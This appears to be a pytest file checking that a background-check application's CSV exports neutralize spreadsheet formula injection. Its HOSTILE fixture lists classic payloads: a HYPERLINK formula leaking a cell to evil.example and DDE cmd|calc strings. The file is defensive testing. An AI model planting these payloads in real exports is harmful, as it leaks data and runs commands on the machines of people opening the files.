"""Every CSV the product serves opens safely in a spreadsheet (issue 15, CSV injection).

The routes are found, not listed by hand: any route that declares ``text/csv`` among its
answers, in the OpenAPI document or (pages, which are not in it) on the route itself.
Each one found must have a row in ``FEEDS`` that plants hostile cells and reads them
back, so a new CSV route cannot slip past. And no module but ``bgcheck.platform.spreadsheets``
imports ``csv``: a new CSV has to be written by the one writer that neutralizes.
"""

from __future__ import annotations

import ast
import csv
import io
import uuid
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient
from sqlalchemy import Engine

from api.app import create_app
from bgcheck import audit
from bgcheck.audit import dissemination
from bgcheck.identity import users as user_service
from bgcheck.models import utcnow
from bgcheck.platform import spreadsheets
from bgcheck.platform.db import session_scope
from bgcheck.platform.settings import Settings
from workflow import Role

from support.auth import access_token
from support.cases import case_context, new_case
from support.factories import TEST_ACTOR, make_actor, make_user
from support.pages import Staff

ROOT = Path(__file__).resolve().parents[2]
CSV = "text/csv"
# The classic payloads: a link that leaks the sheet, a DDE command, arithmetic.
HOSTILE = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)


@dataclass
class Office:
    app: FastAPI
    client: TestClient
    engine: Engine
    users: dict[str, uuid.UUID]

    def api(self, who: str, path: str, **params: Any) -> httpx.Response:
        token = access_token(self.app, self.users[who])
        return self.client.get(path, params=params, headers={"Authorization": f"Bearer {token}"})

    def page(self, who: str, path: str, form: dict[str, str]) -> httpx.Response:
        return Staff(self.app, self.users[who]).post(path, form)


@pytest.fixture
def office(fresh_engine, tmp_path) -> Iterator[Office]:  # type: ignore[no-untyped-def]
    engine: Engine = fresh_engine()
    app = create_app(Settings(data_dir=tmp_path, embedded_worker=False), engine)
    with session_scope(engine) as session:
        users = {role: make_user(session, Role(role)).id for role in ("manager", "auditor")}
    with TestClient(app, raise_server_exceptions=False) as client:
        yield Office(app, client, engine, users)


# -- planting hostile cells ------------------------------------------------------------------


def hostile_staff(office: Office) -> list[str]:
    """Accounts whose display names and emails are formulas (an admin typed them)."""
    with session_scope(office.engine) as session:
        for number, name in enumerate(HOSTILE):
            user_service.create_user(
                session,
                TEST_ACTOR,
                email=f"{'+-'[number % 2]}x{number}@example.edu",
                display_name=name,
                roles=[Role.REVIEWER],
            )
    return [*HOSTILE, "+x0@example.edu", "-x1@example.edu"]


def hostile_events(office: Office) -> list[str]:
    """Audit events whose actor, action and request id are formulas."""
    with session_scope(office.engine) as session:
        for name in HOSTILE:
            audit.record(
                session,
                audit.AuditActor("system", name[:64]),
                action=name[:64],
                request_id="-1-1-1-1-1-1",  # shaped like the X-Request-ID the API accepts
            )
    return [name[:64] for name in HOSTILE] + ["-1-1-1-1-1-1"]


def hostile_releases(office: Office) -> list[str]:
    """Dissemination entries whose recipient, relationship and purpose are formulas."""
    with session_scope(office.engine) as session:
        hr = make_actor(session, Role.HR)
        case_id = new_case(session, case_context(office.app.state.settings), hr, utcnow())
        for name in HOSTILE:
            dissemination.record(
                session,
                TEST_ACTOR,
                case_id=case_id,
                recipient=name[:64],
                relationship=name[:64],
                purpose=name,
                what="report",
                now=utcnow(),
            )
    return [*(name[:64] for name in HOSTILE), *HOSTILE]


Feed = Callable[[Office], tuple[httpx.Response, list[str]]]


def _need_to_know(office: Office) -> tuple[httpx.Response, list[str]]:
    planted = hostile_staff(office)
    return office.api("manager", "/api/v1/users/need-to-know", format="csv"), planted


def _api_events(office: Office) -> tuple[httpx.Response, list[str]]:
    planted = hostile_events(office)
    return office.api("auditor", "/api/v1/audit/events", format="csv"), planted


def _api_dissemination(office: Office) -> tuple[httpx.Response, list[str]]:
    planted = hostile_releases(office)
    return office.api("auditor", "/api/v1/audit/dissemination", format="csv"), planted


def _page_events(office: Office) -> tuple[httpx.Response, list[str]]:
    planted = hostile_events(office)
    return office.page("auditor", "/audit/events", {"format": "csv"}), planted


def _page_dissemination(office: Office) -> tuple[httpx.Response, list[str]]:
    planted = hostile_releases(office)
    return office.page("auditor", "/audit/dissemination", {"format": "csv"}), planted


FEEDS: dict[tuple[str, str], Feed] = {
    ("GET", "/api/v1/users/need-to-know"): _need_to_know,
    ("GET", "/api/v1/audit/events"): _api_events,
    ("GET", "/api/v1/audit/dissemination"): _api_dissemination,
    ("POST", "/audit/events"): _page_events,
    ("POST", "/audit/dissemination"): _page_dissemination,
}


# -- the checks ------------------------------------------------------------------------------


def _declares_csv(responses: dict[Any, Any]) -> bool:
    return any(CSV in (answer.get("content") or {}) for answer in responses.values())


def csv_routes(app: FastAPI) -> set[tuple[str, str]]:
    """Every (method, path) whose answers include CSV: the OpenAPI document's operations,
    and the routes themselves (the pages are left out of the document)."""
    found = {
        (method.upper(), path)
        for path, operations in app.openapi()["paths"].items()
        for method, operation in operations.items()
        if _declares_csv(operation.get("responses", {}))
    }
    for route in api_routes(app.routes):
        if _declares_csv(route.responses):
            found |= {(method, route.path) for method in route.methods}
    return found


def api_routes(routes: Iterable[Any]) -> Iterator[APIRoute]:
    """Every route, through included routers (FastAPI keeps them nested; none adds a
    prefix when included, so each route's own path is the full path)."""
    for route in routes:
        if isinstance(route, APIRoute):
            yield route
        elif (router := getattr(route, "original_router", None)) is not None:
            yield from api_routes(router.routes)


def test_every_route_that_serves_csv_is_checked_here(office: Office) -> None:
    assert csv_routes(office.app) == set(FEEDS), (
        "a route serves CSV: write it with bgcheck.platform.spreadsheets and add a row to FEEDS"
    )


@pytest.mark.parametrize("route", list(FEEDS), ids=lambda route: f"{route[0]} {route[1]}")
def test_formula_cells_come_out_as_text(office: Office, route: tuple[str, str]) -> None:
    response, planted = FEEDS[route](office)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith(CSV)
    cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
    for value in planted:
        assert "'" + value in cells, f"{value!r} is missing or not neutralized"
        assert value not in cells, f"{value!r} went out as a formula"
    assert not [cell for cell in cells if cell.startswith(spreadsheets.FORMULA_STARTS)]


def test_only_the_one_writer_imports_csv() -> None:
    writer = ROOT / "bgcheck" / "platform" / "spreadsheets.py"
    offenders = []
    for package in ("api", "bgcheck", "workflow"):
        for path in sorted((ROOT / package).rglob("*.py")):
            for node in ast.walk(ast.parse(path.read_text(), str(path))):
                names = (
                    [alias.name for alias in node.names]
                    if isinstance(node, ast.Import)
                    else [node.module or ""]
                    if isinstance(node, ast.ImportFrom)
                    else []
                )
                if "csv" in names and path != writer:
                    offenders.append(str(path.relative_to(ROOT)))
    assert offenders == [], (
        "write CSV through bgcheck.platform.spreadsheets, which neutralizes formulas"
    )


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Pat O'Neil", "Pat O'Neil"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_the_writer_neutralizes_formula_starts_only(cell: str, written: str) -> None:
    assert spreadsheets.neutralize(cell) == written
    assert next(csv.reader(io.StringIO(spreadsheets.csv_line([cell])))) == [written]
